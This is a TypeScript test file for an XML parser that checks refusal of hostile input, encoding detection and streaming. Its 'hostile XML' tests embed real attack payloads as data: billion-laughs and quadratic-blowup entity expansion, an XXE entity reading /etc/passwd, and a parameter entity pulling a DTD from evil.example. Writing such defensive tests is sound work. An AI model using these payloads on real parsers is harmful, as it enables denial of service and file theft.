import { describe, it, expect } from 'vitest';
import { XmlReader, readXmlStream, parseXml, textContent, childElements, type XmlStartTag } from '../../../core/xml/index';
import { PadananError } from '../../../core/errors';
import { utf16 } from '../../support/utf16';

function errorOf(fn: () => unknown): PadananError {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(PadananError);
    return error as PadananError;
  }
  throw new Error('expected a PadananError');
}

const utf8 = (s: string) => new TextEncoder().encode(s);

describe('hostile XML', () => {
  it('refuses the billion laughs', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>`;
    const e = errorOf(() => parseXml(lol, { fileName: 'lol.xml' }));
    expect(e.code).toBe('xml.doctype');
    expect(e.message).toContain('lol.xml');
  });

  it('refuses an external entity (XXE), general and parameter', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`;
    expect(errorOf(() => parseXml(xxe)).code).toBe('xml.doctype');
    const param = `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><foo/>`;
    expect(errorOf(() => parseXml(param)).code).toBe('xml.doctype');
  });

  it('refuses quadratic blowup', () => {
    const big = 'x'.repeat(50_000);
    const doc = `<!DOCTYPE kaboom [<!ENTITY a "${big}">]><kaboom>${'&a;'.repeat(50_000)}</kaboom>`;
    expect(errorOf(() => parseXml(doc)).code).toBe('xml.doctype');
  });

  it('refuses a reference to an undeclared entity', () => {
    const e = errorOf(() => parseXml('<a>caf&eacute;</a>'));
    expect(e.code).toBe('xml.entity');
    expect(e.params.line).toBe(1);
  });

  it('accepts a DOCTYPE that only names an external DTD, without fetching it', () => {
    const root = parseXml('<?xml version="1.0"?>\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\n<tmx version="1.4"><body/></tmx>');
    expect(root.name).toBe('tmx');
  });

  it('reports truncated XML with line and column', () => {
    const e = errorOf(() => parseXml('<?xml version="1.0"?>\n<a>\n  <b>text</b>\n  <c>more', { fileName: 'cut.xml' }));
    expect(e.code).toBe('xml.malformed');
    expect(e.params.detail).toBe('truncated');
    expect(e.params.line).toBe(4);
    expect(e.message).toMatch(/cut\.xml.*line 4/);
  });

  it('reports mismatched tags with line and column', () => {
    const e = errorOf(() => parseXml('<a>\n<b></c>\n</a>'));
    expect(e.code).toBe('xml.malformed');
    expect(e.params.line).toBe(2);
    expect(Number(e.params.column)).toBeGreaterThan(1);
  });

  it('refuses characters not allowed in XML 1.0 and unbound prefixes', () => {
    expect(errorOf(() => parseXml('<a>\u0001</a>')).code).toBe('xml.malformed');
    expect(errorOf(() => parseXml('<a><x:b/></a>')).code).toBe('xml.malformed');
    expect(errorOf(() => parseXml('<a>&#1;</a>')).code).toBe('xml.malformed');
  });

  it('caps nesting depth, attribute count and text length', () => {
    const deep = '<a>'.repeat(300) + '</a>'.repeat(300);
    expect(errorOf(() => parseXml(deep)).code).toBe('xml.tooLarge');
    expect(parseXml(deep, { maxDepth: 400 }).name).toBe('a');
    const attrs = '<a ' + Array.from({ length: 600 }, (_, i) => `a${i}="1"`).join(' ') + '/>';
    expect(errorOf(() => parseXml(attrs)).code).toBe('xml.tooLarge');
    const long = `<a>${'x'.repeat(3_000_000)}</a>`;
    expect(errorOf(() => parseXml(long, { maxTextLength: 2_000_000 })).code).toBe('xml.tooLarge');
    expect(errorOf(() => parseXml('<a>' + 'y'.repeat(5000) + '</a>', { maxChars: 1000 })).code).toBe('xml.tooLarge');
  });

  it('refuses non-XML input', () => {
    expect(errorOf(() => parseXml('')).code).toBe('xml.malformed');
    expect(errorOf(() => parseXml('just text')).code).toBe('xml.malformed');
    expect(errorOf(() => parseXml('<a/><b/>')).code).toBe('xml.malformed');
  });
});

describe('encodings', () => {
  const doc = (decl: string) => `<?xml version="1.0" encoding="${decl}"?><t>Rusia–Korut: “kerja sama” café</t>`;

  it('reads UTF-16 LE and BE with BOM, even when the declaration disagrees', () => {
    for (const little of [true, false]) {
      expect(textContent(parseXml(utf16(doc('UTF-16'), little)))).toBe('Rusia–Korut: “kerja sama” café');
      expect(textContent(parseXml(utf16(doc('UTF-8'), little)))).toBe('Rusia–Korut: “kerja sama” café');
    }
  });

  it('reads UTF-16 without BOM from the "<?" signature', () => {
    expect(textContent(parseXml(utf16(doc('UTF-16'), true, false)))).toBe('Rusia–Korut: “kerja sama” café');
  });

  it('reads UTF-8 with BOM and trusts the bytes over a wrong UTF-16 declaration', () => {
    const bytes = utf8('\ufeff' + doc('utf-8'));
    expect(textContent(parseXml(bytes))).toContain('café');
    expect(textContent(parseXml(utf8(doc('UTF-16'))))).toContain('café');
  });

  it('decodes a declared legacy encoding', () => {
    const latin = new Uint8Array([...utf8('<?xml version="1.0" encoding="ISO-8859-1"?><t>caf'), 0xe9, ...utf8('</t>')]);
    expect(textContent(parseXml(latin))).toBe('café');
  });

  it('refuses bytes that are not valid in the declared encoding, and unknown encodings', () => {
    const bad = new Uint8Array([...utf8('<?xml version="1.0" encoding="UTF-8"?><t>caf'), 0xe9, ...utf8('</t>')]);
    expect(errorOf(() => parseXml(bad)).code).toBe('xml.encoding');
    expect(errorOf(() => parseXml(utf8(doc('x-klingon')))).code).toBe('xml.encoding');
  });
});

describe('streaming', () => {
  it('gives the same events whatever the chunking, including split multi-byte characters', async () => {
    const text = `<?xml version="1.0"?><r>${Array.from({ length: 200 }, (_, i) => `<u id="${i}">Kabar “${i}” — Rp1,5 triliun 🇮🇩 &amp; &lt;ok&gt;</u>`).join('\n')}</r>`;
    const bytes = utf8(text);
    const collect = async (size: number) => {
      const seen: string[] = [];
      let current = '';
      const chunks: Uint8Array[] = [];
      for (let i = 0; i < bytes.length; i += size) chunks.push(bytes.subarray(i, i + size));
      await readXmlStream(chunks, {
        openTag: (t) => {
          current = '';
          if (t.local === 'u') seen.push(`#${t.attrs.id}`);
        },
        text: (t) => (current += t),
        closeTag: (t) => {
          if (t.local === 'u') seen.push(current);
        },
      });
      return seen;
    };
    const whole = await collect(bytes.length);
    expect(whole).toHaveLength(400);
    expect(whole[1]).toBe('Kabar “0” — Rp1,5 triliun 🇮🇩 & <ok>');
    for (const size of [1, 3, 7, 4096]) expect(await collect(size)).toEqual(whole);
  });

  it('reports tag offsets into the decoded text, for splicing', () => {
    const text = '<?xml version="1.0"?>\n<a xmlns="urn:x"><b k="1">t</b><c/><![CDATA[<x>]]></a>';
    const tags: XmlStartTag[] = [];
    const ends: number[] = [];
    const r = new XmlReader({ openTag: (t) => tags.push(t), closeTag: (t) => ends.push(t.end) });
    r.write(text);
    r.close();
    expect(tags.map((t) => text.slice(t.start, t.end))).toEqual(['<a xmlns="urn:x">', '<b k="1">', '<c/>']);
    expect(tags[1]!.uri).toBe('urn:x');
    expect(ends.map((e) => text.slice(0, e).slice(-4))).toEqual(['</b>', '<c/>', '</a>']);
  });

  it('keeps CDATA and entity text and mixed-content whitespace in trees', () => {
    const root = parseXml('<p>a <b>x</b> <i>y</i><![CDATA[ <&> ]]>&#x1F600;</p>');
    expect(root.children).toHaveLength(5);
    expect(textContent(root)).toBe('a x y <&> 😀');
    const list = parseXml('<l>\n  <e>1</e>\n  <e>2</e>\n</l>');
    expect(childElements(list).map(textContent)).toEqual(['1', '2']);
    expect(list.children).toHaveLength(2);
  });
});
